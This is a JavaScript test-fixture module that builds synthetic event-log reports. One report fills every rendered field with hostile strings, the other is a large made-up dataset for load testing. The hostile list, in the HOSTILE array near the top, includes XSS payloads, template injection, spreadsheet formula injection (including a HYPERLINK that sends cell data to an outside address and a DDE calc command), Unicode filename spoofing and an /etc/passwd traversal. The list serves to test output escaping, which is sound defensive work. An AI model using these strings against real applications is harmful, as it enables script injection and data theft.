// SPDX-License-Identifier: Apache-2.0
//
// Two further documents: one full of text that would do harm if it were taken for markup, script,
// layout or a formula, and one with as many findings as asked for.

import { createDocument, createRandom, timeText } from './builder.mjs';

/** Strings that an attacker may write into a log. */
export const HOSTILE = Object.freeze([
  '<img src=x onerror="window.pwned=1">',
  '<script>window.pwned=1</script>',
  '</script><script>window.pwned=1</script>',
  '<!--<script>',
  ']]><svg onload=window.pwned=1>',
  '<style>*{display:none}</style>',
  'javascript:window.pwned=1',
  '"><a href="javascript:window.pwned=1">x</a>',
  "' onmouseover='window.pwned=1",
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  'line\u2028separator\u2029paragraph',
  'invoice\u202egpj.exe',
  '\u2067right-to-left\u2069 \u0645\u0631\u062d\u0628\u0627 end',
  'zero\u200bwidth\u200djoin\ufeffbom',
  'nul\u0000bell\u0007escape\u001b[31m',
  'lone\ud800surrogate',
  '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  'tab\there\r\nnew line',
  '\u5371\u967a\ud83d\ude00\u{2000b}',
  'Z\u0351\u036b\u0343\u036aA\u0336\u0321L\u0334G\u0338O'.repeat(3),
  '%s%n%x %00 ../../etc/passwd',
]);

/** Every hostile string in every place where text from logs or rules is shown. */
export function hostileData() {
  const doc = createDocument('en');
  HOSTILE.forEach((text, k) => {
    const rule = doc.addRule({
      title: text,
      id: text,
      level: 'high',
      status: text,
      author: text,
      description: text,
      references: [text, `https://example.org/${text}`],
      falsepositives: [text],
      tags: [text],
      techniques: ['T1059.001', text],
      tactics: ['execution', text],
      source: text,
      text: `title: ${text}\n${text}: 1`,
    });
    const file = doc.addFile(text, {
      status: 'partly',
      reason: text,
      damages: [{ offset: 4096, what: text }],
      more_damages: 3,
    });
    const event = doc.addEvent({
      file,
      record: k,
      time: timeText(Date.UTC(2021, 0, 1) + k * 1000),
      host: text,
      channel: text,
      provider: text,
      event_id: 1,
      fields: [
        ['CommandLine', text],
        [text, text],
        ['Image', 'C:\\x.exe'],
      ],
      xml: `<Event><Data>${text}</Data></Event>`,
    });
    doc.addFinding(event, rule, [
      ['CommandLine', text],
      [text, text],
    ]);
  });
  const hidden = doc.addRule({ title: 'Hidden', level: 'low', techniques: [], tactics: [] });
  const script = doc.addEvent({
    file: 0,
    record: 98,
    time: timeText(Date.UTC(2021, 0, 2)),
    host: 'h',
    channel: 'c',
    provider: 'p',
    event_id: 4104,
    fields: [['ScriptBlockText', 'x']],
  });
  const all = HOSTILE.join('\n');
  doc.addFinding(script, hidden, [['ScriptBlockText', 'x']], 2, {
    decoded: { field: all, part: all, kind: all, steps: all, text: all, partial: true },
    script: {
      total: 3,
      parts: 2,
      missing: '3',
      conflicts: 1,
      cut: true,
      events: [{ part: 1, record: 98, file: all }],
    },
  });
  const rule = doc.addRule({
    title: `Long ${'long '.repeat(4000)}`,
    level: 'critical',
    techniques: ['T1059'],
    tactics: ['execution'],
  });
  const file = doc.addFile(`${'deep\\'.repeat(500)}x.evtx`);
  const event = doc.addEvent({
    file,
    record: 99,
    time: 'not a time',
    host: 'h'.repeat(5000),
    channel: 'c',
    provider: 'p',
    event_id: 1,
    fields: [
      ['CommandLine', 'A'.repeat(1 << 20)],
      ['Empty', ''],
    ],
    xml: `${'<a>'.repeat(20000)}${'x'.repeat(100000)}`,
  });
  doc.addFinding(event, rule, [['CommandLine', 'A'.repeat(1 << 20)]]);
  return doc.finish({ rules_not_loaded: HOSTILE.map((text) => ({ source: text, reason: text })) });
}

const FIELDS = ['Image', 'ParentImage', 'User', 'IntegrityLevel', 'Hashes'];

/** `n` findings over 40 hosts, 60 rules and two weeks. */
export function largeData(n) {
  const random = createRandom(n);
  const doc = createDocument('en');
  const levels = ['informational', 'low', 'low', 'medium', 'medium', 'high', 'critical'];
  const techniques = [
    'T1059.001',
    'T1059.003',
    'T1047',
    'T1105',
    'T1218.011',
    'T1547.001',
    'T1053.005',
    'T1021.002',
    'T1082',
    'T1110.001',
  ];
  for (let r = 0; r < 60; r += 1) {
    doc.addRule({
      title: `Made-up rule number ${r}`,
      level: levels[r % levels.length],
      techniques: [techniques[r % techniques.length]],
      tactics: [],
      text: 'title: made up\n',
    });
  }
  const files = Array.from({ length: 40 }, (_, k) =>
    doc.addFile(`HOST-${String(k).padStart(2, '0')}.evtx`, { records: 100000 }),
  );
  for (let k = 0; k < n; k += 1) {
    const host = random.below(40);
    const command = `C:\\Windows\\System32\\cmd.exe /c made-up-${random.below(1e9).toString(36)} --number ${k}${k === n - 7 ? ' needle-in-the-haystack' : ''}`;
    const event = doc.addEvent({
      file: files[host],
      record: k,
      time: timeText(
        Date.UTC(2021, 0, 1) + Math.floor((k * 14 * 86400000) / n),
        random.below(10000),
      ),
      host: `HOST-${String(host).padStart(2, '0')}`,
      channel: 'Microsoft-Windows-Sysmon/Operational',
      provider: 'Microsoft-Windows-Sysmon',
      event_id: 1 + random.below(26),
      fields: [
        ['CommandLine', command],
        ...FIELDS.map((name) => [name, `${name}-${random.below(1e9).toString(36)}`.repeat(3)]),
      ],
    });
    doc.addFinding(event, random.below(60), [['CommandLine', command]]);
  }
  return doc.finish();
}
